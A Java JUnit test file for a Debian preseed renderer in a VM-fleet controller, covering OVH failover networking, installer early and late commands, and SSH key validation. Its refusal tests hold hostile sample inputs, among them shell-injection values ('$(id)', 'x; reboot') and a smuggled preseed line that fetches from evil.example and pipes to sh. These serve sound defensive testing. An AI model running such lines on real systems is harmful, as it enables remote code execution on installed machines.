package io.virtfleet.controller.install;

import static io.virtfleet.controller.install.Installer.answer;
import static io.virtfleet.controller.install.Installer.assertDebconfAccepts;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.virtfleet.common.process.Command;
import io.virtfleet.common.validation.InvalidInputException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * One VM's preseed: the failover network as OVH wants it, the early and late commands, profiles' answers, and
 * refusals.
 */
class PreseedRendererTest {
    @TempDir
    Path dir;

    private Path profiles;
    private Path keys;

    @BeforeEach
    void profilesAndKeys() throws IOException {
        profiles = dir.resolve("profiles");
        profile("base", "d-i pkgsel/include string sudo ca-certificates\n"
                + "d-i debian-installer/locale string en_US.UTF-8\n", "# The base.\n");
        profile("web", "# adds nginx, and speaks French\nd-i pkgsel/include string nginx sudo\n"
                + "d-i debian-installer/locale string fr_FR.UTF-8\nd-i apt-setup/contrib boolean true\n", "# Web.\n");
        keys = Installer.keyFile(dir, "# the operators", Installer.ed25519(1, "alice@laptop"), "",
                Installer.ed25519(2, "bob"));
    }

    private void profile(String name, String preseed, String script) throws IOException {
        Path p = Files.createDirectories(profiles.resolve(name));
        Files.writeString(p.resolve("preseed.cfg"), preseed);
        Files.writeString(p.resolve("post-install.sh"), "#!/bin/bash\n" + script);
    }

    private String render(io.virtfleet.proto.v1.VmSpec vm, String host) {
        return new PreseedRenderer(Installer.settings(profiles, keys), new ProfileCatalog(profiles))
                .render(vm, host, Installer.urls(vm.getName(), "base", vm.getProfile()));
    }

    @ParameterizedTest(name = "host {0}: gateway {1}")
    @CsvSource({"203.0.113.10, 203.0.113.254", "198.51.100.7, 198.51.100.254", "192.0.2.200, 192.0.2.254",
        "51.38.1.1, 51.38.1.254"})
    void aFailoverIpIsAStaticSlash32WhoseGatewayIsTheHostsAddressWith254ReachedOnLink(String host, String gateway)
            throws IOException {
        String preseed = render(Installer.failoverVm("shop", "web", "203.0.113.77"), host);

        assertDebconfAccepts(preseed, dir);
        // netcfg loops forever on a static /32 whose gateway lies outside it: it gets the /32 and no gateway (the
        // installer's hook adds the routes), and no DHCP is asked.
        assertEquals("true", answer(preseed, "netcfg/disable_autoconfig"));
        assertEquals("203.0.113.77", answer(preseed, "netcfg/get_ipaddress"));
        assertEquals("255.255.255.255", answer(preseed, "netcfg/get_netmask"));
        assertEquals("none", answer(preseed, "netcfg/get_gateway"));
        assertTrue(preseed.contains("keeps the routes to " + gateway + " "), preseed);
        String late = answer(preseed, "preseed/late_command");
        String iface = "\"$VIRTFLEET_IFACE\"";
        assertTrue(late.startsWith("VIRTFLEET_IFACE=$(ip route show | "), "the interface is found first:\n" + late);
        assertTrue(late.contains(" && echo 'auto lo' >> '/target/etc/network/interfaces'"
                + " && echo 'iface lo inet loopback' >> '/target/etc/network/interfaces'"
                + " && echo '' >> '/target/etc/network/interfaces'"
                + " && echo 'allow-hotplug '" + iface + " >> '/target/etc/network/interfaces'"
                + " && echo 'iface '" + iface + "' inet static' >> '/target/etc/network/interfaces'"
                + " && echo '    address 203.0.113.77/32' >> '/target/etc/network/interfaces'"
                + " && echo '    post-up ip route replace " + gateway + " dev $IFACE scope link'"
                + " >> '/target/etc/network/interfaces'"
                + " && echo '    post-up ip route replace default via " + gateway + " dev $IFACE'"
                + " >> '/target/etc/network/interfaces'"
                + " && echo '    dns-nameservers 213.186.33.99' >> '/target/etc/network/interfaces'"
                + " && echo 'nameserver 213.186.33.99' > '/target/etc/resolv.conf' && "), late);
        assertTrue(late.indexOf("> '/target/etc/network/interfaces'") < late.indexOf(">> '/target/etc/network/interfaces'"),
                "the file netcfg wrote is replaced, not appended to:\n" + late);
    }

    /** A directory holding a stand-in {@code ip} that prints {@code routes}, to put first on PATH. */
    private Path fakeIp(String routes) throws IOException {
        Path bin = Files.createDirectories(dir.resolve("bin"));
        Path ip = bin.resolve("ip");
        Files.writeString(ip, "#!/bin/sh\nprintf '%s' '" + routes + "'\n");
        ip.toFile().setExecutable(true);
        return bin;
    }

    /** The late command's network steps: from its start to the writing of resolv.conf, on stand-in files. */
    private String networkSteps(String late, Path interfaces, Path resolv) {
        List<String> steps = List.of(late.split(" && "));
        int last = 0;
        for (int i = 0; i < steps.size(); i++) {
            if (steps.get(i).contains("/target/etc/resolv.conf")) {
                last = i;
            }
        }
        return String.join(" && ", steps.subList(0, last + 1))
                .replace("/target/etc/network/interfaces", interfaces.toString())
                .replace("/target/etc/resolv.conf", resolv.toString());
    }

    @Test
    void theNetworkTheLateCommandWritesReadsAsOvhDocumentsIt() throws IOException {
        // Run the late command's network steps in a shell, with the installer's routes as a DHCP lease leaves
        // them, into stand-in files that already hold netcfg's DHCP stanza, and read them back.
        String late = answer(render(Installer.failoverVm("shop", "web", "203.0.113.77"), "198.51.100.7"),
                "preseed/late_command");
        String nic;
        try (var names = Files.list(Path.of("/sys/class/net"))) {
            nic = names.map(n -> n.getFileName().toString()).filter(n -> !n.equals("lo")).sorted().findFirst()
                    .orElse("lo");
        }
        Path bin = fakeIp("10.9.0.0/24 dev " + nic + " scope link  src 10.9.0.5\ndefault via 10.9.0.1 dev " + nic
                + " \n");
        Path interfaces = dir.resolve("interfaces");
        Path resolv = dir.resolve("resolv.conf");
        Files.writeString(interfaces, "auto lo\niface lo inet loopback\nallow-hotplug " + nic + "\niface " + nic
                + " inet dhcp\n");
        Files.writeString(resolv, "nameserver 10.9.0.1\n");
        Command.of("sh", "-c", "PATH=" + bin + ":$PATH && " + networkSteps(late, interfaces, resolv)).runChecked();
        assertEquals(List.of(
                "# Written at install by virtfleet: OVH failover IP 203.0.113.77 as a /32, gateway 198.51.100.254"
                        + " (the public address of the host with .254), reached on the link.",
                "auto lo",
                "iface lo inet loopback",
                "",
                "allow-hotplug " + nic,
                "iface " + nic + " inet static",
                "    address 203.0.113.77/32",
                "    post-up ip route replace 198.51.100.254 dev $IFACE scope link",
                "    post-up ip route replace default via 198.51.100.254 dev $IFACE",
                "    dns-nameservers 213.186.33.99"), Files.readAllLines(interfaces));
        assertEquals(List.of("nameserver 213.186.33.99"), Files.readAllLines(resolv));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "10.9.0.0/24 dev eth0 scope link\n", "default via 10.9.0.1 dev no-such-nic0\n"})
    void withoutADefaultRouteThroughARealInterfaceTheLateCommandStopsBeforeWritingTheNetwork(String routes)
            throws IOException {
        String late = answer(render(Installer.failoverVm("shop", "web", "203.0.113.77"), "198.51.100.7"),
                "preseed/late_command");
        Path interfaces = dir.resolve("interfaces");
        Path resolv = dir.resolve("resolv.conf");
        Files.writeString(interfaces, "iface eth0 inet dhcp\n");
        Command.Result r = Command.of("sh", "-c", "PATH=" + fakeIp(routes) + ":$PATH && "
                + networkSteps(late, interfaces, resolv)).run();
        assertTrue(r.exitCode() != 0, "stopped");
        assertEquals("iface eth0 inet dhcp\n", Files.readString(interfaces), "netcfg's file left as it was");
        assertFalse(Files.exists(resolv));
    }

    @Test
    void theEarlyCommandFetchesBaseThenTheProfilesScriptIntoTheInstallersRamDisk() {
        String preseed = render(Installer.lanVm("db", "web"), null);

        assertEquals("mkdir -p '/var/lib/virtfleet'"
                + " && wget -q -O '/var/lib/virtfleet/post-install-base'"
                + " 'http://10.0.0.1:7444/install/db/t0k3n/profiles/base/post-install.sh'"
                + " && wget -q -O '/var/lib/virtfleet/post-install-web'"
                + " 'http://10.0.0.1:7444/install/db/t0k3n/profiles/web/post-install.sh'",
                answer(preseed, "preseed/early_command"));
        assertTrue(preseed.indexOf("preseed/early_command") < preseed.indexOf("netcfg/"), "near the top");
    }

    @Test
    void theEarlyCommandStopsAtTheFirstScriptItCannotFetch() throws IOException {
        // A stand-in wget that fails for the web profile's script, as a refused fetch would.
        Path bin = Files.createDirectories(dir.resolve("bin"));
        Path wget = bin.resolve("wget");
        Files.writeString(wget, "#!/bin/sh\ncase \"$4\" in *web*) exit 1;; esac\necho fetched > \"$3\"\n");
        wget.toFile().setExecutable(true);
        Path staged = dir.resolve("staged");
        String early = answer(render(Installer.lanVm("db", "web"), null), "preseed/early_command")
                .replace("/var/lib/virtfleet", staged.toString());
        Command.Result r = Command.of("sh", "-c", "PATH=" + bin + ":$PATH && " + early).run();
        assertTrue(r.exitCode() != 0, "stopped");
        assertTrue(Files.exists(staged.resolve("post-install-base")), "base's came first");
        assertFalse(Files.exists(staged.resolve("post-install-web")));
    }

    @Test
    void aLanVmUsesDhcpAndGetsNoStaticAddressOrRoutes() throws IOException {
        String preseed = render(Installer.lanVm("db", "web"), null);

        assertDebconfAccepts(preseed, dir);
        assertEquals("false", answer(preseed, "netcfg/disable_autoconfig"));
        assertEquals("db", answer(preseed, "netcfg/hostname"));
        assertEquals("vms.example.net", answer(preseed, "netcfg/get_domain"));
        assertFalse(preseed.contains("netcfg/get_ipaddress") || preseed.contains("netcfg/get_gateway"), preseed);
        String late = answer(preseed, "preseed/late_command");
        assertFalse(late.contains("post-up") || late.contains("/target/etc/network") || late.contains("resolv.conf")
                || late.contains("VIRTFLEET_IFACE"), late);
    }

    @Test
    void everyVmGetsTheFleetsUserKeysMirrorAndTheAtomicRecipeOnVda() {
        String preseed = render(Installer.lanVm("db", "web"), null);

        assertEquals("false", answer(preseed, "passwd/root-login"));
        assertEquals("debian", answer(preseed, "passwd/username"));
        assertEquals("*", answer(preseed, "passwd/user-password-crypted"));
        assertEquals("deb.debian.org", answer(preseed, "mirror/http/hostname"));
        assertEquals("/debian", answer(preseed, "mirror/http/directory"));
        assertEquals("", answer(preseed, "mirror/http/proxy"));
        assertEquals("/dev/vda", answer(preseed, "partman-auto/disk"));
        assertEquals("atomic", answer(preseed, "partman-auto/choose_recipe"));
        assertEquals("/dev/vda", answer(preseed, "grub-installer/bootdev"));
        String late = answer(preseed, "preseed/late_command");
        assertTrue(late.contains("echo '" + Installer.ed25519(1, "alice@laptop")
                + "' > '/target/home/debian/.ssh/authorized_keys' && echo '" + Installer.ed25519(2, "bob")
                + "' >> '/target/home/debian/.ssh/authorized_keys'"), late);
        assertTrue(late.contains("in-target chown -R 'debian:debian' '/home/debian/.ssh'"), late);
        assertTrue(late.contains("echo 'debian ALL=(ALL:ALL) NOPASSWD: ALL' > '/target/etc/sudoers.d/90-virtfleet-debian'"),
                late);
    }

    @Test
    void aProfileChangesDefaultsInPlaceAndItsPackagesAddToBases() {
        String preseed = render(Installer.lanVm("db", "web"), null);

        assertEquals("fr_FR.UTF-8", answer(preseed, "debian-installer/locale"));
        assertTrue(preseed.indexOf("debian-installer/locale") < preseed.indexOf("netcfg/"), "kept in its place");
        assertEquals("sudo ca-certificates nginx", answer(preseed, "pkgsel/include"));
        assertEquals("true", answer(preseed, "apt-setup/contrib"));
    }

    @Test
    void theLateCommandRunsTheStagedScriptsInChainOrderThenCallsBack() {
        String late = answer(render(Installer.lanVm("db", "web"), null), "preseed/late_command");

        assertFalse(late.contains("post-install.sh"), "no script is fetched this late: " + late);
        assertTrue(late.endsWith("chmod 0440 '/target/etc/sudoers.d/90-virtfleet-debian'"
                + " && cp '/var/lib/virtfleet/post-install-base' '/target/root/virtfleet-post-install-base'"
                + " && chmod 0700 '/target/root/virtfleet-post-install-base' && in-target '/root/virtfleet-post-install-base'"
                + " && cp '/var/lib/virtfleet/post-install-web' '/target/root/virtfleet-post-install-web'"
                + " && chmod 0700 '/target/root/virtfleet-post-install-web' && in-target '/root/virtfleet-post-install-web'"
                + " && wget -q -O /dev/null 'http://10.0.0.1:7444/install/db/t0k3n/done?result=ok'"), late);
    }

    @ParameterizedTest
    @ValueSource(strings = {"preseed/early_command", "preseed/late_command"})
    void eachInstallerCommandIsOneValidShellCommand(String question) {
        for (String preseed : List.of(render(Installer.failoverVm("shop", "web", "203.0.113.77"), "198.51.100.7"),
                render(Installer.lanVm("db", "web"), null))) {
            String command = answer(preseed, question);
            Command.Result r = Command.of("sh", "-n", "-c", command).run();
            assertEquals(0, r.exitCode(), r.stderr());
            assertFalse(command.contains("\\"), "no backslash: a preseed line ending in one would swallow the next");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"$IFACE", "a&b", "(ALL:ALL) NOPASSWD: ALL", "x; reboot", "`id`", "$(id)", "*", "a  b",
        "#not-a-comment", "~root"})
    void aQuotedValueReachesTheCommandExactlyAsWritten(String value) {
        String printed = Command.of("sh", "-c", "printf %s " + InstallerCommand.quote(value)).runChecked().stdout();
        assertEquals(value, printed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"it's", "back\\slash", "new\nline", "tab\there"})
    void aValueThatCouldEndItsQuotesIsRefused(String value) {
        assertThrows(IllegalArgumentException.class, () -> InstallerCommand.quote(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://10.0.0.1/x'; reboot; '", "http://10.0.0.1/a b", "http://10.0.0.1/\"x\"",
        "http://10.0.0.1/$(id)", "http://10.0.0.1/`id`", "http://10.0.0.1/x\nd-i preseed/late_command string reboot",
        "ftp://10.0.0.1/x", "http://user:secret@10.0.0.1/x", "http://10.0.0.1:99999/x", "http://10.0.0.1/a\\",
        "http://10.0.0.1/x;id", "http://10.0.0.1/x|id", "http://-bad-.example/x", "//10.0.0.1/x"})
    void aUrlWithAQuoteBlankOrShellCharacterIsRefused(String url) {
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> new InstallUrls(Map.of("base", url), "http://10.0.0.1/done"));
        assertTrue(e.getMessage().startsWith("post-install URL of profile base: "), e.getMessage());
        assertThrows(InvalidInputException.class, () -> new InstallUrls(Map.of(), url));
    }

    @Test
    void aVmsUrlsMustCoverEveryProfileItIsInstalledFrom() {
        PreseedRenderer renderer = new PreseedRenderer(Installer.settings(profiles, keys), new ProfileCatalog(profiles));
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> renderer.render(
                Installer.lanVm("db", "web"), null, Installer.urls("db", "web")));
        assertTrue(e.getMessage().contains("a URL for every profile VM db is installed from: base, web"), e.getMessage());
    }

    @Test
    void aKeyFileWithAnInjectedLineIsRefusedNamingTheLine() throws IOException {
        keys = Installer.keyFile(dir, Installer.ed25519(1, "alice"),
                "d-i preseed/late_command string wget http://evil.example/x | sh");
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> render(Installer.lanVm("db", "web"), null));
        assertTrue(e.getMessage().startsWith(keys + " line 2: "), e.getMessage());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "command=\"reboot\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB it's-me",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB $(reboot)",
        "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB type and body differ",
        "ssh-ed25519 not*base64", "ssh-dss AAAAB3NzaC1kc3MAAACBAP", "ssh-ed25519"})
    void aKeyThatIsNotAPlainPublicKeyIsRefused(String line) {
        assertThrows(InvalidInputException.class, () -> AuthorizedKeys.parse("keys", line));
    }

    @Test
    void aKeyWhoseBodyIsOfAnotherTypeThanItsLineSaysIsRefused() {
        String body = Installer.ed25519(1, "").split(" ")[1];
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> AuthorizedKeys.parse("keys", "ssh-rsa " + body + " pasted"));
        assertTrue(e.getMessage().contains("of the type the line names (ssh-rsa)"), e.getMessage());
    }

    @Test
    void theKeyHelperMakesKeysTheParserAccepts() {
        assertEquals(List.of(Installer.ed25519(1, "alice@laptop")), AuthorizedKeys.parse("keys",
                Installer.ed25519(1, "alice@laptop") + "\r\n"));
    }

    @Test
    void withoutAnyKeyNoVmIsRendered() throws IOException {
        keys = Installer.keyFile(dir, "# nobody yet");
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> render(Installer.lanVm("db", "web"), null));
        assertTrue(e.getMessage().contains("at least one SSH public key"), e.getMessage());
        keys = dir.resolve("missing");
        assertThrows(InvalidInputException.class, () -> render(Installer.lanVm("db", "web"), null));
    }

    @ParameterizedTest
    @ValueSource(strings = {"198.51.100.254", "10.0.0.300", "127.0.0.1", "203.0.113.10; reboot", "10.0.0.5",
        "192.168.1.10", "169.254.0.7", "100.64.0.3"})
    void aHostAddressThatCannotGiveAGatewayIsRefused(String host) {
        assertThrows(InvalidInputException.class, () -> render(Installer.failoverVm("shop", "web", "203.0.113.77"), host));
    }

    @Test
    void aFailoverVmNeedsItsHostsAddress() {
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> render(Installer.failoverVm("shop", "web", "203.0.113.77"), null));
        assertTrue(e.getMessage().startsWith("home host's public-address: "), e.getMessage());
    }
}
